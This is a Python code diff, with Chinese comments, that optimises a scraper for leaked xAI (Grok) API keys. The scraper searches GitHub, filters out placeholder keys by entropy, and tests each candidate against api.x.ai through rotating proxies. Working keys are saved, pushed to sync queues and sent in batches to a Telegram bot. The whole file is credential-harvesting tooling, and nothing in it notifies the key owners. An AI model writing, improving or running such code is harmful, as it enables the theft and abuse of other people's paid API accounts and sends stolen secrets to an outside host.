@@ -1,4 +1,8 @@
+import asyncio
+import io
+import math
 import os
+import queue
 import random
 import re
 import sys
@@ -6,8 +10,13 @@ import time
 import traceback
 import threading
 import requests
+from requests.adapters import HTTPAdapter
+from urllib3.util.retry import Retry
+from collections import Counter
+from concurrent.futures import ThreadPoolExecutor, as_completed
 from datetime import datetime, timedelta
-from typing import Dict, List, Union, Any
+from functools import lru_cache
+from typing import Dict, Iterator, List, Optional, Union, Any
 from http.server import BaseHTTPRequestHandler, HTTPServer
 
 # 已移除 Google 生成式 AI 相关依赖，改用通用 HTTP 请求
@@ -20,14 +29,77 @@ from common.config import Config
 from utils.github_client import GitHubClient
 from utils.file_manager import file_manager, Checkpoint, checkpoint
 from utils.sync_utils import sync_utils
+from utils.rate_limiter import TokenBucket
 
 # --- Telegram 定时发送相关变量 ---
-LAST_TG_SEND_TIME = time.time()
+# 间隔判定用monotonic时钟：不受NTP校时/时区跳变影响，避免汇总被重复发送或永不发送
+LAST_TG_SEND_TIME = time.monotonic()
 PENDING_KEYS_TO_SEND = []
 
+# 多线程处理item时保护共享状态的锁。
+# checkpoint用FileManager那把全局RLock：SyncUtils的入队/落盘线程也走它，
+# 任何线程保存checkpoint时其他线程都改不了scanned_shas等集合
+PENDING_KEYS_LOCK = threading.Lock()
+CHECKPOINT_LOCK = file_manager.checkpoint_lock
+
+# 每线程缓存选中的代理60秒：省掉热路径上的重复RNG+字典构造，
+# 同一代理连用也让Session里按代理划分的连接池保持热连接
+_proxy_tls = threading.local()
+
+
+def _get_thread_proxy() -> Optional[Dict[str, str]]:
+    now = time.monotonic()
+    if getattr(_proxy_tls, 'proxy_expiry', 0.0) <= now:
+        _proxy_tls.proxy = Config.get_random_proxy()
+        _proxy_tls.proxy_expiry = now + 60
+    return _proxy_tls.proxy
+
+
+# 共享HTTP连接池：避免每次验证/推送都重新进行TCP+TLS握手
+_session = requests.Session()
+_session.mount('https://', HTTPAdapter(
+    pool_connections=32,
+    pool_maxsize=64,
+    max_retries=Retry(total=2, backoff_factor=0.3, status_forcelist=[502, 503, 504],
+                      allowed_methods=frozenset(["GET", "POST"]))
+))
+_session.headers.update({"Content-Type": "application/json", "Connection": "keep-alive"})
+
+# 可选依赖orjson：C实现的JSON编码，验证请求体直接给序列化好的bytes
+try:
+    import orjson
+except ImportError:
+    orjson = None
+
+# 可选依赖httpx：验证扇出走asyncio协程（单线程即可撑起大并发），未安装时退回线程池
+try:
+    import httpx
+except ImportError:
+    httpx = None
+
+# HTTP/2 需要可选的 h2 包；api.x.ai 和 api.telegram.org 都支持 h2，
+# 多路复用后并发请求共享一条TLS连接，省掉每个请求的握手开销
+_HTTP2_AVAILABLE = False
+if httpx is not None:
+    try:
+        import h2  # noqa: F401
+        _HTTP2_AVAILABLE = True
+    except ImportError:
+        pass
+
+# Telegram发送客户端：httpx可用时启用HTTP/2复用连接，否则退回共享的requests Session
+_tg_client = httpx.Client(http2=_HTTP2_AVAILABLE) if httpx is not None else _session
+
 # 创建GitHub工具实例和文件管理器
 github_utils = GitHubClient.create_instance(Config.GITHUB_TOKENS)
 
+# 限速器取代固定随机sleep：只在令牌耗尽时才等待，空闲时item处理不再白白睡1-4秒
+# GitHub内容抓取随可用token数扩容；xAI验证单独一个桶
+_github_bucket = TokenBucket(rate_per_sec=1.2 * max(1, len(Config.GITHUB_TOKENS)))
+_xai_bucket = TokenBucket(rate_per_sec=2.0)
+# Telegram同一chat限制约1条/秒
+_tg_bucket = TokenBucket(rate_per_sec=1.0)
+
 # 统计信息
 skip_stats = {
     "time_filter": 0,
@@ -59,67 +131,92 @@ def send_telegram_summary():
     token = os.getenv("TG_BOT_TOKEN")
     chat_id = os.getenv("TG_CHAT_ID")
     
-    if not token or not chat_id or not PENDING_KEYS_TO_SEND:
+    # 快照并清空待发送列表，避免与工作线程的写入冲突
+    with PENDING_KEYS_LOCK:
+        keys_to_send = PENDING_KEYS_TO_SEND
         PENDING_KEYS_TO_SEND = []
-        LAST_TG_SEND_TIME = time.time()
+    LAST_TG_SEND_TIME = time.monotonic()
+
+    if not token or not chat_id or not keys_to_send:
         return
 
     header = f"📊 【Grok 抓取汇总】\n"
     header += f"⏰ 时间: {datetime.now().strftime('%m-%d %H:%M')}\n"
-    header += f"✨ 新发现有效 xAI Key: {len(PENDING_KEYS_TO_SEND)} 个\n\n"
-    
-    all_keys_text = "\n".join(PENDING_KEYS_TO_SEND)
-    full_message = header + all_keys_text
+    header += f"✨ 新发现有效 xAI Key: {len(keys_to_send)} 个\n\n"
+
     url = f"https://api.telegram.org/bot{token}/sendMessage"
-    
+
     try:
-        MAX_LENGTH = 3500 
-        if len(full_message) <= MAX_LENGTH:
-            requests.post(url, json={"chat_id": chat_id, "text": full_message}, timeout=15)
-        else:
-            parts = [full_message[i:i+MAX_LENGTH] for i in range(0, len(full_message), MAX_LENGTH)]
-            for index, part in enumerate(parts):
-                msg_text = f"📦 部分 {index+1}/{len(parts)}：\n\n" + part
-                requests.post(url, json={"chat_id": chat_id, "text": msg_text}, timeout=15)
-                time.sleep(1) 
-                
-        logger.info(f"📤 已向 Telegram 发送汇总报告，共计 {len(PENDING_KEYS_TO_SEND)} 个 Key")
+        MAX_LENGTH = 3500
+        # 流式切分：按key逐条填充缓冲，满一条消息即成块，不先拼出全量大字符串再切片
+        chunks = []
+        buf = io.StringIO()
+        for key in keys_to_send:
+            if buf.tell() and buf.tell() + len(key) + 1 > MAX_LENGTH:
+                chunks.append(buf.getvalue())
+                buf = io.StringIO()
+            if buf.tell():
+                buf.write("\n")
+            buf.write(key)
+        if buf.tell():
+            chunks.append(buf.getvalue())
+
+        for index, chunk in enumerate(chunks, 1):
+            if len(chunks) == 1:
+                msg_text = header + chunk
+            else:
+                msg_text = f"📦 部分 {index}/{len(chunks)}：\n\n" + (header if index == 1 else "") + chunk
+            # 发送节奏交给令牌桶（Telegram实际限制约1条/秒），不再固定sleep(1)
+            _tg_bucket.acquire()
+            _tg_client.post(url, json={"chat_id": chat_id, "text": msg_text}, timeout=15)
+
+        logger.info(f"📤 已向 Telegram 发送汇总报告，共计 {len(keys_to_send)} 个 Key")
     except Exception as e:
         logger.error(f"❌ Telegram 发送失败: {e}")
-    
-    PENDING_KEYS_TO_SEND = []
-    LAST_TG_SEND_TIME = time.time()
 
 
-def normalize_query(query: str) -> str:
-    query = " ".join(query.split())
-    parts = []
-    i = 0
-    while i < len(query):
-        if query[i] == '"':
-            end_quote = query.find('"', i + 1)
-            if end_quote != -1:
-                parts.append(query[i:end_quote + 1])
-                i = end_quote + 1
-            else:
-                parts.append(query[i])
-                i += 1
-        elif query[i] == ' ':
-            i += 1
-        else:
-            start = i
-            while i < len(query) and query[i] != ' ':
-                i += 1
-            parts.append(query[start:i])
+# 查询分词：带引号的短语或连续非空白字符，一趟正则代替逐字符扫描
+_TOKEN_RE = re.compile(r'"[^"]*"|\S+')
+
+
+# --- 后台出站队列 ---
+# Telegram发送、磁盘写入、同步推送全部移出扫描关键路径，由单个后台线程消费
+_outbox: queue.Queue = queue.Queue()
+
+
+def _outbox_worker():
+    while True:
+        job = _outbox.get()
+        try:
+            kind = job[0]
+            if kind == "save_valid":
+                _, repo_name, file_path, file_url, keys = job
+                file_manager.save_valid_keys(repo_name, file_path, file_url, keys)
+            elif kind == "save_429":
+                _, repo_name, file_path, file_url, keys = job
+                file_manager.save_rate_limited_keys(repo_name, file_path, file_url, keys)
+            elif kind == "sync":
+                _, keys = job
+                sync_utils.add_keys_to_queue(keys)
+                logger.info(f"📥 Added {len(keys)} key(s) to sync queues")
+            elif kind == "tg_flush":
+                send_telegram_summary()
+        except Exception as e:
+            logger.error(f"❌ Outbox job {job[0]} failed: {e}")
+        finally:
+            _outbox.task_done()
 
+
+@lru_cache(maxsize=8192)
+def normalize_query(query: str) -> str:
     quoted_strings = []
     language_parts = []
     filename_parts = []
     path_parts = []
     other_parts = []
 
-    for part in parts:
-        if part.startswith('"') and part.endswith('"'):
+    for part in _TOKEN_RE.findall(query):
+        if part.startswith('"') and part.endswith('"') and len(part) > 1:
             quoted_strings.append(part)
         elif part.startswith('language:'):
             language_parts.append(part)
@@ -127,45 +224,115 @@ def normalize_query(query: str) -> str:
             filename_parts.append(part)
         elif part.startswith('path:'):
             path_parts.append(part)
-        elif part.strip():
+        else:
             other_parts.append(part)
 
     normalized_parts = sorted(quoted_strings) + sorted(other_parts) + sorted(language_parts) + sorted(filename_parts) + sorted(path_parts)
     return " ".join(normalized_parts)
 
 
-def extract_keys_from_content(content: str) -> List[str]:
-    # 修改正则以匹配 xAI 的 Key (前缀通常为 xai-)
-    pattern = r'(xai-[a-zA-Z0-9\-_]{30,})'
-    return re.findall(pattern, content)
+# 匹配 xAI 的 Key (前缀通常为 xai-)
+# 优先使用 google-re2 的 DFA 引擎：大文件扫描为线性时间且吞吐远高于标准库的回溯引擎，
+# 未安装 pyre2 时自动退回标准库 re
+_KEY_PATTERN = r'(xai-[a-zA-Z0-9\-_]{30,})'
+try:
+    import re2 as _re_engine
+except ImportError:
+    _re_engine = re
+_KEY_RE = _re_engine.compile(_KEY_PATTERN)
+
+
+# 同一个连号字符重复6次以上基本是占位样例
+_REPEAT_RE = re.compile(r'(.)\1{5,}')
+
+# 负缓存：同一个无效key经常出现在多个仓库里，记下来避免反复走网络验证
+_known_bad_keys: set = set()
+_KNOWN_BAD_LIMIT = 50_000
+
+
+def is_plausible_key(key: str) -> bool:
+    """本地静态检查：明显是占位符或低熵的key直接拒绝，省掉一次HTTPS往返和xAI配额"""
+    body = key[4:]  # 去掉 "xai-" 前缀
+    if len(body) < 30:
+        return False
+    if _REPEAT_RE.search(body):
+        return False
+    # Shannon熵：真实key的随机部分通常每字符熵远高于3.5 bit，教程样例则明显偏低
+    counts = Counter(body)
+    total = len(body)
+    entropy = -sum((c / total) * math.log2(c / total) for c in counts.values())
+    return entropy > 3.5
+
+
+def extract_keys_from_content(content: str) -> Iterator[tuple]:
+    """惰性提取候选key及其出现位置：单趟扫描，调用方可随时短路停止"""
+    # 前缀预筛：绝大多数文件根本不含"xai-"，str的C层子串搜索远快于正则引擎，
+    # 命中前缀的少数文件才真正进入正则扫描
+    if "xai-" not in content:
+        return
+    for m in _KEY_RE.finditer(content):
+        yield m.group(1), m.start()
+
 
+def _get_pushed_dt(item: Dict[str, Any]) -> Optional[datetime]:
+    """解析repo的pushed_at时间，结果缓存在item上避免重复strptime"""
+    if "_pushed_dt" in item:
+        return item["_pushed_dt"]
 
-def should_skip_item(item: Dict[str, Any], checkpoint: Checkpoint) -> tuple[bool, str]:
-    if checkpoint.last_scan_time:
+    repo_pushed_dt = None
+    repo_pushed_at = item["repository"].get("pushed_at")
+    if repo_pushed_at:
         try:
-            last_scan_dt = datetime.fromisoformat(checkpoint.last_scan_time)
-            repo_pushed_at = item["repository"].get("pushed_at")
-            if repo_pushed_at:
-                repo_pushed_dt = datetime.strptime(repo_pushed_at, "%Y-%m-%dT%H:%M:%SZ")
-                if repo_pushed_dt <= last_scan_dt:
-                    skip_stats["time_filter"] += 1
-                    return True, "time_filter"
-        except Exception:
+            repo_pushed_dt = datetime.strptime(repo_pushed_at, "%Y-%m-%dT%H:%M:%SZ")
+        except ValueError:
             pass
+    item["_pushed_dt"] = repo_pushed_dt
+    return repo_pushed_dt
+
+
+# 路径黑名单匹配：优先用pyahocorasick在一趟线性扫描里命中任意token，
+# 未安装时退回预编译的正则交替（同样是C层单趟扫描，优于逐token的in检查）
+if not Config.FILE_PATH_BLACKLIST:
+    def _path_blacklisted(lowercase_path: str) -> bool:
+        return False
+else:
+    try:
+        import ahocorasick
+
+        _BLACKLIST_AUTOMATON = ahocorasick.Automaton()
+        for _token in Config.FILE_PATH_BLACKLIST:
+            _BLACKLIST_AUTOMATON.add_word(_token, _token)
+        _BLACKLIST_AUTOMATON.make_automaton()
+
+        def _path_blacklisted(lowercase_path: str) -> bool:
+            return next(_BLACKLIST_AUTOMATON.iter(lowercase_path), None) is not None
+    except ImportError:
+        _BLACKLIST_RE = re.compile("|".join(re.escape(t) for t in Config.FILE_PATH_BLACKLIST))
+
+        def _path_blacklisted(lowercase_path: str) -> bool:
+            return _BLACKLIST_RE.search(lowercase_path) is not None
+
+
+def should_skip_item(item: Dict[str, Any], checkpoint: Checkpoint,
+                     last_scan_dt: Optional[datetime] = None,
+                     age_cutoff: Optional[datetime] = None) -> tuple[bool, str]:
+    repo_pushed_dt = _get_pushed_dt(item)
+
+    if last_scan_dt and repo_pushed_dt and repo_pushed_dt <= last_scan_dt:
+        skip_stats["time_filter"] += 1
+        return True, "time_filter"
 
     if item.get("sha") in checkpoint.scanned_shas:
         skip_stats["sha_duplicate"] += 1
         return True, "sha_duplicate"
 
-    repo_pushed_at = item["repository"].get("pushed_at")
-    if repo_pushed_at:
-        repo_pushed_dt = datetime.strptime(repo_pushed_at, "%Y-%m-%dT%H:%M:%SZ")
-        if repo_pushed_dt < datetime.utcnow() - timedelta(days=Config.DATE_RANGE_DAYS):
-            skip_stats["age_filter"] += 1
-            return True, "age_filter"
+    if age_cutoff is None:
+        age_cutoff = datetime.utcnow() - timedelta(days=Config.DATE_RANGE_DAYS)
+    if repo_pushed_dt and repo_pushed_dt < age_cutoff:
+        skip_stats["age_filter"] += 1
+        return True, "age_filter"
 
-    lowercase_path = item["path"].lower()
-    if any(token in lowercase_path for token in Config.FILE_PATH_BLACKLIST):
+    if _path_blacklisted(item["path"].lower()):
         skip_stats["doc_filter"] += 1
         return True, "doc_filter"
 
@@ -173,28 +340,39 @@ def should_skip_item(item: Dict[str, Any], checkpoint: Checkpoint) -> tuple[bool
 
 
 def process_item(item: Dict[str, Any]) -> tuple:
-    delay = random.uniform(1, 4)
     file_url = item["html_url"]
     repo_name = item["repository"]["full_name"]
     file_path = item["path"]
-    time.sleep(delay)
+    _github_bucket.acquire()
 
     content = github_utils.get_file_content(item)
     if not content:
         logger.warning(f"⚠️ Failed to fetch content for file: {file_url}")
         return 0, 0
 
-    keys = extract_keys_from_content(content)
-    filtered_keys = []
-    for key in keys:
-        context_index = content.find(key)
-        if context_index != -1:
-            snippet = content[context_index:context_index + 45]
-            if "..." in snippet or "YOUR_" in snippet.upper():
-                continue
-        filtered_keys.append(key)
-    
-    keys = list(set(filtered_keys))
+    # 真实泄漏几乎都在小配置文件里，超大文件直接跳过，不值得整趟扫描
+    if len(content) > Config.MAX_FILE_SIZE_BYTES:
+        logger.info(f"⏭️ Skipping oversized file ({len(content)} bytes): {file_url}")
+        return 0, 0
+
+    # 利用finditer返回的位置直接取上下文片段，一次遍历内完成占位符过滤+去重
+    seen = set()
+    keys = []
+    for key, context_index in extract_keys_from_content(content):
+        # 单文件key数量封顶：没有正常文件会嵌几十个不同的真key，超出即停止扫描
+        if len(keys) >= Config.MAX_KEYS_PER_FILE:
+            logger.warning(f"⚠️ Key cap ({Config.MAX_KEYS_PER_FILE}) reached, truncating scan: {file_url}")
+            break
+        if key in seen:
+            continue
+        snippet = content[context_index:context_index + 45]
+        if "..." in snippet or "YOUR_" in snippet.upper():
+            continue
+        if key in _known_bad_keys or not is_plausible_key(key):
+            continue
+        seen.add(key)
+        keys.append(key)
+
     if not keys:
         return 0, 0
 
@@ -203,8 +381,10 @@ def process_item(item: Dict[str, Any]) -> tuple:
     valid_keys = []
     rate_limited_keys = []
 
-    for key in keys:
-        validation_result = validate_grok_key(key)
+    # 并发验证：每个key的验证相互独立且纯网络IO，串行等待毫无意义
+    results = validate_keys(keys)
+
+    for key, validation_result in zip(keys, results):
         if validation_result == "ok":
             valid_keys.append(key)
             logger.info(f"✅ VALID: {key}")
@@ -212,19 +392,19 @@ def process_item(item: Dict[str, Any]) -> tuple:
             rate_limited_keys.append(key)
             logger.warning(f"⚠️ RATE LIMITED: {key}")
         else:
+            # 只缓存确定无效的key；error_5xx/网络异常属于瞬时失败，下次仍要重验
+            if validation_result == "unauthorized" and len(_known_bad_keys) < _KNOWN_BAD_LIMIT:
+                _known_bad_keys.add(key)
             logger.info(f"❌ INVALID: {key}, result: {validation_result}")
 
     if valid_keys:
-        file_manager.save_valid_keys(repo_name, file_path, file_url, valid_keys)
-        PENDING_KEYS_TO_SEND.extend(valid_keys)
-        try:
-            sync_utils.add_keys_to_queue(valid_keys)
-            logger.info(f"📥 Added {len(valid_keys)} key(s) to sync queues")
-        except Exception as e:
-            logger.error(f"📥 Sync error: {e}")
+        with PENDING_KEYS_LOCK:
+            PENDING_KEYS_TO_SEND.extend(valid_keys)
+        _outbox.put(("save_valid", repo_name, file_path, file_url, valid_keys))
+        _outbox.put(("sync", valid_keys))
 
     if rate_limited_keys:
-        file_manager.save_rate_limited_keys(repo_name, file_path, file_url, rate_limited_keys)
+        _outbox.put(("save_429", repo_name, file_path, file_url, rate_limited_keys))
 
     return len(valid_keys), len(rate_limited_keys)
 
@@ -232,7 +412,7 @@ def process_item(item: Dict[str, Any]) -> tuple:
 def validate_grok_key(api_key: str) -> str:
     """验证 Grok (xAI) API Key 的有效性"""
     try:
-        time.sleep(random.uniform(0.5, 1.5))
+        _xai_bucket.acquire()
         url = "https://api.x.ai/v1/chat/completions"
         headers = {
             "Authorization": f"Bearer {api_key}",
@@ -244,8 +424,42 @@ def validate_grok_key(api_key: str) -> str:
             "max_tokens": 5
         }
         
-        proxies = Config.get_random_proxy()
-        response = requests.post(url, json=data, headers=headers, proxies=proxies, timeout=15)
+        proxies = _get_thread_proxy()
+        if orjson is not None:
+            response = _session.post(url, data=orjson.dumps(data), headers=headers, proxies=proxies, timeout=15)
+        else:
+            response = _session.post(url, json=data, headers=headers, proxies=proxies, timeout=15)
+
+        if response.status_code == 200:
+            return "ok"
+        elif response.status_code == 401:
+            return "unauthorized"
+        elif response.status_code == 429:
+            return "rate_limited"
+        else:
+            return f"error_{response.status_code}"
+    except Exception as e:
+        return f"exception_{type(e).__name__}"
+
+
+async def _validate_grok_key_async(client, api_key: str) -> str:
+    """validate_grok_key 的异步版本，返回值与同步版保持一致"""
+    try:
+        # 与同步路径共用同一个xAI令牌桶：reserve扣减后按返回的时长异步等待，
+        # 多线程各自gather也不会击穿全局2 req/s的上限
+        wait = _xai_bucket.reserve()
+        if wait > 0:
+            await asyncio.sleep(wait)
+        headers = {
+            "Authorization": f"Bearer {api_key}",
+            "Content-Type": "application/json"
+        }
+        data = {
+            "messages": [{"role": "user", "content": "hi"}],
+            "model": Config.HAJIMI_CHECK_MODEL,
+            "max_tokens": 5
+        }
+        response = await client.post("https://api.x.ai/v1/chat/completions", json=data, headers=headers, timeout=15)
 
         if response.status_code == 200:
             return "ok"
@@ -259,8 +473,29 @@ def validate_grok_key(api_key: str) -> str:
         return f"exception_{type(e).__name__}"
 
 
+def validate_keys(keys: List[str]) -> List[str]:
+    """
+    批量验证key。优先用 asyncio + httpx 协程扇出（同批共享一个代理和连接池），
+    未安装 httpx 时退回线程池并发调用同步版 validate_grok_key
+    """
+    if httpx is not None:
+        async def _run() -> List[str]:
+            proxies = Config.get_random_proxy()
+            proxy_url = proxies.get("https") if proxies else None
+            async with httpx.AsyncClient(proxy=proxy_url, http2=_HTTP2_AVAILABLE,
+                                         limits=httpx.Limits(max_connections=64)) as client:
+                return list(await asyncio.gather(
+                    *[_validate_grok_key_async(client, key) for key in keys]))
+
+        return asyncio.run(_run())
+
+    with ThreadPoolExecutor(max_workers=min(16, len(keys))) as validator_pool:
+        return list(validator_pool.map(validate_grok_key, keys))
+
+
 def main():
     threading.Thread(target=start_health_check_server, daemon=True).start()
+    threading.Thread(target=_outbox_worker, daemon=True).start()
     
     start_time = datetime.now()
     logger.info("=" * 60)
@@ -271,6 +506,8 @@ def main():
         sys.exit(1)
 
     search_queries = file_manager.get_search_queries()
+    # 查询列表是静态的，归一化结果一次算好，不必每轮循环重复解析
+    normalized_queries = [(q, normalize_query(q)) for q in search_queries]
     total_keys_found = 0
     total_rate_limited_keys = 0
     loop_count = 0
@@ -281,11 +518,14 @@ def main():
             logger.info(f"🔄 Loop #{loop_count} - {datetime.now().strftime('%H:%M:%S')}")
 
             # 每一轮循环重置已处理查询，确保持续扫描更新
-            checkpoint.processed_queries = set()
+            with CHECKPOINT_LOCK:
+                checkpoint.processed_queries = set()
+
+            # 不同查询经常命中同一批文件，按sha在本轮内去重，避免重复抓取+验证
+            loop_seen_shas = set()
 
             loop_processed_files = 0
-            for i, q in enumerate(search_queries, 1):
-                normalized_q = normalize_query(q)
+            for i, (q, normalized_q) in enumerate(normalized_queries, 1):
                 if normalized_q in checkpoint.processed_queries:
                     continue
 
@@ -295,32 +535,65 @@ def main():
                     query_valid = 0
                     query_429 = 0
 
-                    for item_index, item in enumerate(items, 1):
-                        if item_index % 20 == 0:
-                            file_manager.save_checkpoint(checkpoint)
-                            file_manager.update_dynamic_filenames()
-
-                        should_skip, _ = should_skip_item(item, checkpoint)
+                    # 过滤阈值每条查询只算一次，不在item循环内重复构造
+                    last_scan_dt = None
+                    if checkpoint.last_scan_time:
+                        try:
+                            last_scan_dt = datetime.fromisoformat(checkpoint.last_scan_time)
+                        except ValueError:
+                            pass
+                    age_cutoff = datetime.utcnow() - timedelta(days=Config.DATE_RANGE_DAYS)
+
+                    # 过滤后并发处理item：process_item几乎全是网络IO等待，线程池可大幅缩短单轮耗时
+                    pending_items = []
+                    for item in items:
+                        sha = item.get("sha")
+                        if sha and sha in loop_seen_shas:
+                            continue
+                        should_skip, _ = should_skip_item(item, checkpoint, last_scan_dt, age_cutoff)
                         if should_skip:
                             continue
-
-                        v, r = process_item(item)
-                        query_valid += v
-                        query_429 += r
-                        checkpoint.add_scanned_sha(item.get("sha"))
-                        loop_processed_files += 1
+                        if sha:
+                            loop_seen_shas.add(sha)
+                        pending_items.append(item)
+
+                    if pending_items:
+                        with ThreadPoolExecutor(max_workers=Config.ITEM_WORKERS) as executor:
+                            future_to_item = {executor.submit(process_item, it): it for it in pending_items}
+                            for item_index, future in enumerate(as_completed(future_to_item), 1):
+                                item = future_to_item[future]
+                                try:
+                                    v, r = future.result()
+                                except Exception as e:
+                                    logger.error(f"💥 Item processing error: {e}")
+                                    v, r = 0, 0
+
+                                query_valid += v
+                                query_429 += r
+                                with CHECKPOINT_LOCK:
+                                    checkpoint.add_scanned_sha(item.get("sha"))
+                                loop_processed_files += 1
+
+                                if item_index % 20 == 0:
+                                    with CHECKPOINT_LOCK:
+                                        file_manager.save_checkpoint_if_due(checkpoint)
+                                    file_manager.update_dynamic_filenames()
 
                     total_keys_found += query_valid
                     total_rate_limited_keys += query_429
                     logger.info(f"✅ Query {i}/{len(search_queries)}: Found {query_valid} valid")
 
-                checkpoint.add_processed_query(normalized_q)
-                checkpoint.update_scan_time()
-                file_manager.save_checkpoint(checkpoint)
+                with CHECKPOINT_LOCK:
+                    checkpoint.add_processed_query(normalized_q)
+                    checkpoint.update_scan_time()
+                    file_manager.save_checkpoint_if_due(checkpoint)
 
-            # 检查 Telegram 汇总发送
-            if time.time() - LAST_TG_SEND_TIME >= 3600:
-                send_telegram_summary()
+            # 本轮扫描结束，强制落盘一次，保证状态不丢
+            file_manager.save_checkpoint(checkpoint)
+
+            # 检查 Telegram 汇总发送（实际发送在后台线程执行，不阻塞扫描循环）
+            if time.monotonic() - LAST_TG_SEND_TIME >= 3600:
+                _outbox.put(("tg_flush",))
 
             logger.info(f"🏁 Loop #{loop_count} done. Sleeping...")
             time.sleep(10)